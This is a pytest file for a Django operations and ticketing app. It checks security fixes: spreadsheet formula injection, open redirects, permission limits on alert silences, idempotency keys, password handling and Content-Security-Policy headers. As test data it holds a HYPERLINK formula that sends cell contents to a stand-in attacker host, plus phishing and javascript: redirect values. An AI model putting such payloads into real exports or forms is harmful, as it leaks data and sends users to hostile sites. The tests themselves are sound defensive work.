"""The smaller holes of issue 17, each as an attacker or a clumsy client met it, and the pages around
errors: Chinese 400/403/404/CSRF pages inside the site's layout, a Content-Security-Policy on every
page, the API schema and docs only for logged-in people, and no traceback in the log for a 403."""

from __future__ import annotations

import csv
import io
import logging

import pytest
from django.test import Client
from openpyxl import load_workbook
from rest_framework.test import APIClient

from notifications.models import Notification, NotificationStatus
from notifications.services import notify
from opsdesk.org.models import normalize_mobile, validate_mobile
from tests.tickets.helpers import FAULT_DATA, ensure_types

pytestmark = pytest.mark.django_db


def api(person) -> APIClient:
    client = APIClient(raise_request_exception=False)
    client.force_authenticate(person)
    return client


def page_client(person=None) -> Client:
    client = Client(raise_request_exception=False)
    if person is not None:
        client.force_login(person)
    return client


# --- exports: no live formulas ------------------------------------------------------------------

def test_exports_do_not_turn_a_unit_name_into_a_live_formula(org):
    city = org.cities[0]
    city.name = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    city.save()
    org.cities[1].name = "@SUM(1+1)"
    org.cities[1].save()
    manager = page_client(org.people["manager"])
    query = "date_from=2026-11-01&date_to=2026-11-07"
    content = manager.get(f"/reports/units/export.csv?{query}").content.decode("utf-8-sig")
    names = [row[0] for row in csv.reader(io.StringIO(content))]
    assert "'" + city.name in names and "'@SUM(1+1)" in names
    assert not any(name.startswith(("=", "@", "+", "-")) for name in names)
    workbook = load_workbook(io.BytesIO(manager.get(f"/reports/units/export.xlsx?{query}").content))
    cells = [cell.value for cell in workbook.active["A"]]
    assert "'" + city.name in cells
    # openpyxl would have stored the raw name as a formula (data_type "f"); every cell is text now.
    assert all(cell.data_type != "f" for row in workbook.active.iter_rows() for cell in row)


# --- the unit tree: no cycles -------------------------------------------------------------------

def test_the_unit_api_refuses_a_parent_inside_the_units_own_subtree(org):
    admin = api(org.people["admin"])
    city = org.cities[0]
    path = city.path
    response = admin.patch(f"/api/units/{city.pk}/", {"parent": org.outlets[0].code}, format="json")
    assert response.status_code == 400
    assert "parent" in response.json()
    assert admin.patch(f"/api/units/{city.pk}/", {"parent": city.code}, format="json").status_code == 400
    city.refresh_from_db()
    assert city.parent == org.province and city.path == path
    # A real move still works.
    assert admin.patch(f"/api/units/{org.counties[0].pk}/", {"parent": org.cities[1].code},
                       format="json").status_code == 200


# --- mobile numbers: ASCII digits only ----------------------------------------------------------

@pytest.mark.parametrize("number", ["１３８００１３８０００", "١٣٨٠٠١٣٨٠٠٠", "1380013800٠"])
def test_a_mobile_number_in_other_digits_is_refused(org, number):
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        validate_mobile(number)
    response = api(org.people["teller"]).patch("/api/me/", {"mobile": number}, format="json")
    assert response.status_code == 400
    assert normalize_mobile("+86 138-0013-8000") == "13800138000"
    validate_mobile("+86 138-0013-8000")


# --- silences: no quiet board by anyone for a month ---------------------------------------------

def test_only_an_administrator_silences_every_host_and_only_for_hours(org):
    body = {"host_pattern": "*", "reason": "全网变更", "duration_minutes": 60 * 24 * 30}
    for role in ("operator", "dispatcher", "lead"):
        response = api(org.people[role]).post("/api/silences/", body, format="json")
        assert response.status_code == 403, (role, response.content[:200])
        assert "管理员" in response.json()["detail"]
    admin = api(org.people["admin"])
    too_long = admin.post("/api/silences/", body, format="json")
    assert too_long.status_code == 400 and "4" in too_long.json()["duration_minutes"][0]
    assert admin.post("/api/silences/", {**body, "duration_minutes": 240}, format="json").status_code == 201
    # A category alone names no host either; a named host pattern stays the board's own business.
    assert api(org.people["operator"]).post("/api/silences/", {"category": "db", "reason": "x", "duration_minutes": 30},
                                            format="json").status_code == 403
    assert api(org.people["operator"]).post("/api/silences/", {"host_pattern": "core-*", "reason": "补丁",
                                                               "duration_minutes": 120}, format="json").status_code == 201


def test_the_longest_window_follows_the_setting(org, settings):
    settings.OPSDESK_SILENCE_MAX_HOURS = 72
    operator = api(org.people["operator"])
    body = {"host_pattern": "core-*", "reason": "迁移"}
    refused = operator.post("/api/silences/", {**body, "duration_minutes": 73 * 60}, format="json")
    assert refused.status_code == 400 and "72" in refused.json()["duration_minutes"][0]
    assert operator.post("/api/silences/", {**body, "duration_minutes": 72 * 60}, format="json").status_code == 201


# --- resend: no open redirect -------------------------------------------------------------------

@pytest.mark.parametrize("target", ["https://evil.example/phish", "//evil.example/", "javascript:alert(1)", "\\\\evil.example", "\\"])
def test_the_resend_button_never_sends_the_administrator_to_another_site(org, target):
    notify(event="request.escalate", text="给县里", key="b", people=[org.people["county"]])
    row = Notification.objects.get()
    Notification.objects.filter(pk=row.pk).update(status=NotificationStatus.FAILED)
    response = page_client(org.people["admin"]).post(f"/notifications/log/{row.pk}/resend/", {"next": target})
    assert response.status_code == 302
    assert response["Location"] == "/notifications/log/"
    # The page's own address is still followed.
    Notification.objects.filter(pk=row.pk).update(status=NotificationStatus.FAILED)
    back = page_client(org.people["admin"]).post(f"/notifications/log/{row.pk}/resend/",
                                                 {"next": "/notifications/log/?status=failed"})
    assert back["Location"] == "/notifications/log/?status=failed"


# --- Idempotency-Key: a different body is not a retry -------------------------------------------

def test_an_idempotency_key_reused_with_another_body_answers_422(org):
    from tickets.models import ServiceRequest

    ensure_types()
    teller = api(org.people["teller"])
    body = {"type": "fault_report", "subject": "柜面终端无法登录", "system": org.systems[0].pk, "data": FAULT_DATA}
    first = teller.post("/api/requests/", body, format="json", HTTP_IDEMPOTENCY_KEY="k-1")
    assert first.status_code == 201
    assert teller.post("/api/requests/", body, format="json", HTTP_IDEMPOTENCY_KEY="k-1").status_code == 200
    other = teller.post("/api/requests/", {**body, "subject": "另一个故障"}, format="json", HTTP_IDEMPOTENCY_KEY="k-1")
    assert other.status_code == 422
    assert first.json()["number"] in other.json()["Idempotency-Key"][0]
    assert ServiceRequest.objects.count() == 1


# --- the mail account password is never sent back ------------------------------------------------

def test_the_mail_account_password_is_not_in_the_admin_page_and_is_kept_when_left_empty(org):
    from alerts.models import MailAccount

    account = MailAccount.objects.create(name="dc", host="mail.dc.example", port=993, username="alerts",
                                         password="S3cret-imap-pw")
    admin = page_client(org.people["admin"])
    admin.force_login(org.people["admin"])
    org.people["admin"].is_superuser = True
    org.people["admin"].save()
    url = f"/admin/alerts/mailaccount/{account.pk}/change/"
    html = admin.get(url).content.decode()
    assert 'name="password"' in html and "S3cret-imap-pw" not in html
    form = {"name": "dc", "host": "mail.dc.example", "port": "993", "security": account.security,
            "verify_certificate": "on", "ca_file": "", "username": "alerts", "password": "", "timeout": "30",
            "enabled": "on", "folders-TOTAL_FORMS": "0", "folders-INITIAL_FORMS": "0",
            "folders-MIN_NUM_FORMS": "0", "folders-MAX_NUM_FORMS": "1000"}
    response = admin.post(url, form)
    assert response.status_code == 302, response.content.decode()[:2000]
    account.refresh_from_db()
    assert account.password == "S3cret-imap-pw"
    admin.post(url, {**form, "password": "N3w-imap-pw"})
    account.refresh_from_db()
    assert account.password == "N3w-imap-pw"


# --- error pages ----------------------------------------------------------------------------------

def test_404_and_403_pages_are_chinese_inside_the_layout(org):
    teller = page_client(org.people["teller"])
    missing = teller.get("/tickets/999999/")
    assert missing.status_code == 404
    html = missing.content.decode()
    assert "页面不存在" in html and 'class="topbar"' in html and "返回首页" in html
    forbidden = teller.get("/notifications/log/")
    assert forbidden.status_code == 403
    assert "无权" in forbidden.content.decode() and 'class="topbar"' in forbidden.content.decode()
    assert api(org.people["teller"]).get("/api/nothing-here/").status_code == 404


def test_a_csrf_failure_is_a_chinese_page(org):
    client = Client(enforce_csrf_checks=True, raise_request_exception=False)
    client.force_login(org.people["teller"])
    response = client.post("/accounts/logout/")
    assert response.status_code == 403
    html = response.content.decode()
    assert "表单已失效" in html and 'class="topbar"' in html


def test_a_403_is_one_log_line_without_a_traceback(org, caplog):
    with caplog.at_level(logging.WARNING, logger="django.request"):
        page_client(org.people["teller"]).get("/notifications/log/")
    records = [r for r in caplog.records if r.name == "django.request"]
    assert records and all(r.exc_info is None for r in records)
    assert "Traceback" not in caplog.text


def test_api_errors_are_in_chinese(org):
    anonymous = APIClient(raise_request_exception=False)
    assert anonymous.get("/api/requests/").json()["detail"] == "身份认证信息未提供。"
    bad = api(org.people["admin"]).post("/api/silences/", {"host_pattern": "x", "reason": "y",
                                                           "duration_minutes": "abc"}, format="json")
    assert bad.status_code == 400 and "请填写合法的整数值" in bad.json()["duration_minutes"][0]


# --- Content-Security-Policy ----------------------------------------------------------------------

@pytest.mark.parametrize(("role", "url"), [(None, "/accounts/login/"), ("operator", "/alerts/board/"),
                                           ("teller", "/tickets/mine/"), ("manager", "/reports/units/"),
                                           ("admin", "/notifications/log/"), ("teller", "/tickets/999999/")])
def test_pages_carry_a_strict_content_security_policy(org, role, url):
    response = page_client(org.people[role] if role else None).get(url)
    policy = response["Content-Security-Policy"]
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";"))
    assert directives["default-src"] == "'self'"
    assert directives["script-src"] == "'self'" and directives["style-src"] == "'self'"
    assert directives["frame-ancestors"] == "'none'" and directives["object-src"] == "'none'"
    html = response.content.decode()
    assert "<script>" not in html and "<style" not in html and " onchange=" not in html and " onclick=" not in html


# --- schema and docs ------------------------------------------------------------------------------

def test_the_schema_and_docs_are_for_logged_in_people_only(org, settings):
    settings.DEBUG = False
    anonymous = APIClient(raise_request_exception=False)
    assert anonymous.get("/api/schema/").status_code in (401, 403)
    docs = Client().get("/api/docs/")
    assert docs.status_code == 302 and docs["Location"].startswith("/accounts/login/")
    teller = page_client(org.people["teller"])
    assert teller.get("/api/schema/").status_code == 200
    page = teller.get("/api/docs/")
    assert page.status_code == 200
    # Swagger UI's start script is a file of its own; only its styles are relaxed.
    policy = page["Content-Security-Policy"]
    assert "script-src 'self';" in policy + ";" and "'unsafe-inline'" in policy.split("style-src", 1)[1].split(";")[0]
    assert teller.get("/api/docs/?script=").status_code == 200
    settings.DEBUG = True
    assert APIClient().get("/api/schema/").status_code == 200


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_no_page_breaks_the_content_security_policy_in_a_real_browser(org, browser_login, live_server):
    """Chromium reports every blocked script, style or handler as a securitypolicyviolation; the pages
    people use every day raise none, and the language selector (once an inline onchange) still works."""
    page = browser_login(org.people["manager"].username)
    violations: list[str] = []
    page.on("console", lambda message: violations.append(message.text)
            if "Content Security Policy" in message.text else None)
    for path in ("/reports/units/", "/tickets/999999/", "/notifications/mine/", "/api/docs/"):
        page.goto(f"{live_server.url}{path}")
        page.wait_for_load_state("networkidle")
    page.goto(f"{live_server.url}/reports/units/")
    page.select_option("select[name=language]", "en")
    page.wait_for_load_state("networkidle")
    assert page.locator("html").get_attribute("lang") == "en"
    assert violations == []
